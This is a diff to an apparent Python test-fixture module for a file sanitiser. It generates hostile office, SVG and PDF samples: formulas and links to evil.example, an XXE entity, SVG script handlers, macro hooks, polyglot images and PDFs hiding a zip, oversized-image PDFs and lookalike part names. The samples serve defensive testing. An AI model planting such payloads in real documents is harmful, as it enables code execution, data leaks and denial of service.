@@ -2,7 +2,8 @@
 
 from __future__ import annotations
 
-from collections.abc import Callable, Iterator
+import gzip
+from collections.abc import Callable, Iterator, Mapping
 from functools import partial
 from itertools import product
 
@@ -154,6 +155,12 @@ FORMULAS = {
     "a cube": 'CUBEVALUE("a","b")',
     "a link to a program": 'HYPERLINK("file:///C:/calc.exe","bấm")',
     "a link of a script": 'HYPERLINK( "javascript:alert(1)","bấm")',
+    "a link in pieces": 'HYPERLINK("file" &amp; "://evil.example/a.exe","bấm")',
+    "Python": '_xlfn._xlws.PY("a.py",1)',
+    "a translation": 'TRANSLATE(A1,"vi","en")',
+    "another workbook of a share": "'\\\\evil.example\\s\\[a.xlsx]S'!A1",
+    "another workbook of a host": "'https://evil.example/[a.xlsx]S'!A1",
+    "another table": "'file:///C:/a.ods'#$S.A1",
 }
 FORMULA_PLACES = {
     "a cell": ("xl/worksheets/sheet1.xml", "<f>{}</f>"),
@@ -197,6 +204,8 @@ EXCEL_PARTS: dict[str, dict[str, bytes | str]] = {
     "link of dde": {"xl/externalLinks/externalLink1.xml": "<a><ddeLink/></a>"},
     "macro sheet": {"xl/macrosheets/sheet1.xml": "<a/>"},
     "buttons": {"customUI/customUI.xml": "<customUI/>"},
+    "database": {"xl/model/item.data": b"x"},
+    "programs of a service": {"xl/python.xml": "<python/>"},
 }
 ODT_XML = {
     "remote picture": '<draw:image xlink:href="https://evil.example/a.png"/>',
@@ -215,7 +224,61 @@ ODT_XML = {
     "form": '<form:form xlink:href="https://evil.example/"/>',
     "font": '<svg:font-face-uri xlink:href="https://evil.example/a.ttf"/>',
     "database": '<form:connection-resource xlink:href="a"/>',
+    "words of a database": '<text:database-display text:table-name="b"/>',
+    "macro in the text": '<text:execute-macro text:name="Evil"/>',
 }
+ODT_PARTS: dict[str, dict[str, bytes | str]] = {
+    "dialogue": {"Dialogs/Standard/dialog-lb.xml": "<a/>"},
+    "part without a suffix": {"Object 1/content": '<a xmlns:s="urn:s"><s:event-listener/></a>'},
+    "entity in the metadata": {
+        "manifest.rdf": '<!DOCTYPE a [<!ENTITY x SYSTEM "https://evil.example/">]><a>&x;</a>'
+    },
+    "command of a tool bar": {
+        "Configurations2/a.xml": '<a xmlns:x="urn:x" x:href="vnd.sun.star.script:Evil"/>'
+    },
+}
+DRAWINGS = {
+    "handler": '<g onload="alert(1)"/>',
+    "page inside": '<foreignObject><iframe src="https://evil.example/"/></foreignObject>',
+    "style of a host": "<style>@import 'https://evil.example/a.css';</style>",
+    "fill of a host": '<rect style="fill:url(https://evil.example/a.svg#b)"/>',
+    "quoted fill of a host": "<rect fill=\"url( 'https://evil.example/a.svg#b')\"/>",
+    "shape of a host": '<use xlink:href="https://evil.example/a.svg#a"/>',
+    "shape of a base": '<g xml:base="https://evil.example/"><use href="#a"/></g>',
+    "picture of a host": '<image href="//evil.example/a.png"/>',
+    "page as data": '<image href="data:image/svg+xml,&lt;svg/&gt;"/>',
+    "handler set later": '<set attributeName="onmouseover" to="alert(1)"/>',
+    "address set later": '<a><animate attributeName="href" to="javascript:alert(1)"/></a>',
+    "link of a script": '<a xlink:href="javascript:alert(1)"><rect/></a>',
+}
+RICH_VALUES = {
+    "picture of a cell": '<webImageSrd xmlns:r="urn:r"><address r:id="r1"/></webImageSrd>',
+    "data of a service": '<rvStructures><s t="_linkedentity2"/></rvStructures>',
+    "picture of a service": '<rvStructures><s t="_webimage"/></rvStructures>',
+    "page written on saving": '<webPublishItem destinationFile="\\\\evil\\a.htm"/>',
+    "button with a macro": '<a xmlns:x="urn:x"><x:sp macro="[0]!Evil"/></a>',
+    "button that reads a share": "<formControlPr fmlaLink=\"'\\\\evil\\[a.xlsx]S'!A1\"/>",
+}
+UNSAID_RELATIONS = {
+    "a host": "https://evil.example/a.png",
+    "a share": "//evil.example/s/a.png",
+    "a share in other strokes": "\\\\evil.example\\s\\a.png",
+}
+"""Targets of relations that do not say that they lead outside."""
+
+
+def drawing(xml: str) -> str:
+    """An SVG file."""
+    spaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
+    return f"<svg {spaces}>{xml}</svg>"
+
+
+PDF_PICTURES = {
+    kind: f"<< /Subtype /Image /Width 60000 /Height 60000 /Filter /{kind} /Length 1 >>\n"
+    "stream\nx\nendstream"
+    for kind in ("JBIG2Decode", "JPXDecode", "CCITTFaxDecode", "FlateDecode")
+}
+"""Pictures of a few bytes that say they have thousands of millions of points."""
 
 
 def _odt(xml: str) -> bytes:
@@ -252,9 +315,39 @@ def list_hostile() -> Iterator[tuple[str, str, Maker]]:
         yield f"odt: link {what}", ".odt", partial(_odt, xml)
     for what, xml in ODT_XML.items():
         yield f"odt: {what}", ".odt", partial(_odt, xml)
+    for what, parts in ODT_PARTS.items():
+        yield f"odt: {what}", ".odt", partial(make.odt, "", parts)
+    for what, xml in RICH_VALUES.items():
+        yield f"xlsx: {what}", ".xlsx", partial(_with_parts, make.xlsx, {"xl/a.xml": xml})
+    for what, xml in DRAWINGS.items():
+        parts = {"media/a.svg": drawing(xml)}
+        yield f"docx: drawing with {what}", ".docx", partial(_with_parts, make.docx, parts)
+        yield f"odt: drawing with {what}", ".odt", partial(make.odt, "", parts)
+    packed = {"media/a.svgz": gzip.compress(drawing("").encode())}
+    yield "docx: packed drawing", ".docx", partial(_with_parts, make.docx, packed)
+    yield from _list_of_two_kinds()
 
 
-def _with_parts(honest: Maker, parts: dict[str, bytes | str]) -> bytes:
+def _list_of_two_kinds() -> Iterator[tuple[str, str, Maker]]:
+    """Files that are archives too, and archives with two parts of one name."""
+    hidden = make.zipped({"evil.js": "alert(1)"})
+    yield "pdf: an archive too", ".pdf", lambda: make.pdf() + hidden + b"%%EOF"
+    yield "png: an archive too", ".png", lambda: make.picture("PNG") + hidden
+    yield "jpeg: an archive too", ".jpg", lambda: make.picture("JPEG") + hidden
+    yield "tiff: an archive too", ".tif", lambda: make.picture("TIFF") + hidden
+    for name in (
+        "word/DOCUMENT.xml",
+        "word/document.xml.",
+        "word/document.xml ",
+        "word/ｄocument.xml",
+    ):
+        twin: dict[str, bytes | str] = {name: "<a/>"}
+        yield f"docx: twin {name!r}", ".docx", partial(_with_parts, make.docx, twin)
+    twins: dict[str, bytes | str] = {"word/media/\u1ee7.png": "x", "word/media/u\u0309.png": "x"}
+    yield "docx: twins of two forms", ".docx", partial(_with_parts, make.docx, twins)
+
+
+def _with_parts(honest: Maker, parts: Mapping[str, bytes | str]) -> bytes:
     return make.changed(honest(), parts)
 
 
@@ -266,6 +359,10 @@ def _list_of_pdf() -> Iterator[tuple[str, str, Maker]]:
         if written.isascii():
             action = f"<< /S /URI /URI ({written}) >>"
             yield f"pdf: link {what}", ".pdf", partial(make.pdf, objects=[action])
+    for what, shown in PDF_PICTURES.items():
+        yield f"pdf: endless picture of {what}", ".pdf", partial(make.pdf, objects=[shown])
+    named = "<< /Type /Filespec /FS /URL /F (https://evil.example/x.pdf) >>"
+    yield "pdf: file of a host", ".pdf", partial(make.pdf, catalogue=f"/AF [{named}]")
 
 
 def _list_of_word() -> Iterator[tuple[str, str, Maker]]:
@@ -278,5 +375,11 @@ def _list_of_word() -> Iterator[tuple[str, str, Maker]]:
         yield f"docx: {kind} from {place}", ".docx", linked
     for what, xml in WORD_XML.items():
         yield f"docx: {what}", ".docx", partial(_word_with, xml)
+    for what, target in UNSAID_RELATIONS.items():
+        for mode in ("Internal", ""):
+            list_of = make.relation("image", target, mode).replace(' TargetMode=""', "")
+            unsaid = {RELATION_PLACES[0]: list_of}
+            name = f"docx: {what} said to be {mode or 'nowhere'}"
+            yield name, ".docx", partial(_with_parts, make.docx, unsaid)
     for what, parts in WORD_PARTS.items():
         yield f"docx: {what}", ".docx", partial(_with_parts, make.docx, parts)
